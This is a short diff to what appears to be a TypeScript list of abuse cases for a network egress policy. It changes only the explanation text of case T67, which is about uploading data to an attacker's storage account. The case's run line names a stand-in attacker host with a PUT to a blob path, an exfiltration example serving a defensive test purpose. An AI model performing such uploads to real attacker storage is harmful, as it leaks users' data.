@@ -40,7 +40,7 @@ export const ABUSE_CASES: readonly Case[] = [
     id: "T67",
     title: "An upload to a storage account of the attacker's, where all accounts are allowed",
     outcome: "out-of-scope",
-    why: `${WHY} The preset \`github-artifacts\` names accounts and no whole service.`,
+    why: `${WHY} The preset \`github\` names accounts and no whole service.`,
     run: shown("attacker.storage.example.test", "PUT", "/container/blob"),
   },
   {
